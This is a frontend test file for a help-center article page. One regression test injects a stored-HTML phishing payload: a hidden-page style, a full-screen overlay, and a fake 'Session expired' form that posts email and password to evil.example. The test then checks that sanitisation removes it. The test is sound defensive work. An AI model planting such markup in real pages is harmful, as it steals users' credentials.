import { getDb } from '@atrium/mock-api';
import { screen } from '@testing-library/react';
import { forwardRef, type AnchorHTMLAttributes } from 'react';
import { describe, expect, it, vi } from 'vitest';
import { renderPages } from '../../test/render';
import { HelpCenterArticlePage } from './help-center-article-page';

// no router in these tests: a Link is a plain anchor to its `to`
vi.mock('@tanstack/react-router', () => ({
  Link: forwardRef<HTMLAnchorElement, AnchorHTMLAttributes<HTMLAnchorElement> & { to: string }>(function Link({ to, children, ...rest }, ref) {
    return (
      <a ref={ref} href={to} {...rest}>
        {children}
      </a>
    );
  }),
}));

describe('@atrium/pages/HelpCenterArticlePage', () => {
  // regression (issue 19): the page showed the same article whatever its title
  it('shows the article its title (slug) names', async () => {
    renderPages(<HelpCenterArticlePage title="how-do-i-return-an-item" />);
    expect(await screen.findByRole('heading', { level: 1, name: 'How do I return an item?' }, { timeout: 10_000 })).toBeInTheDocument();
    expect(screen.getByText(/15 days to return an item/)).toBeInTheDocument();
    expect(screen.getByRole('link', { name: 'When will I get my refund?' })).toHaveAttribute('href', '/front-pages/help-center/article/when-will-i-get-my-refund');
  });

  it('another title, another article', async () => {
    renderPages(<HelpCenterArticlePage title="how-does-click-collect-work" />);
    expect(await screen.findByRole('heading', { level: 1, name: 'How does click & collect work?' }, { timeout: 10_000 })).toBeInTheDocument();
  });

  // regression (issue 22): DOMPurify's defaults kept <form>, <style> and style=, so a stored article
  // drew a full-screen fake "Session expired" sign-in form posting to another site
  it('a stored article with a phishing form shows its text without the form, the inputs or the overlay', async () => {
    const article = getDb().helpCenterArticles.find((a) => a.slug === 'how-do-i-return-an-item');
    if (!article) throw new Error('seed article missing');
    article.productContent =
      '<style>body>*{visibility:hidden}</style><div style="position:fixed;inset:0;z-index:2147483647;background:#fff">' +
      '<h2>Session expired</h2><form action="https://evil.example/collect" method="post"><input name="email">' +
      '<input type="password" name="password"><button>Sign in again</button></form></div>';
    const { container } = renderPages(<HelpCenterArticlePage title="how-do-i-return-an-item" />);
    expect(await screen.findByText('Session expired', {}, { timeout: 10_000 })).toBeInTheDocument();
    expect(container.querySelector('form, input, style:not([data-mantine-styles]), [style*="fixed"]')).toBeNull();
    expect(screen.queryByRole('button', { name: 'Sign in again' })).not.toBeInTheDocument();
    expect(container.innerHTML).not.toContain('evil.example');
  });
});
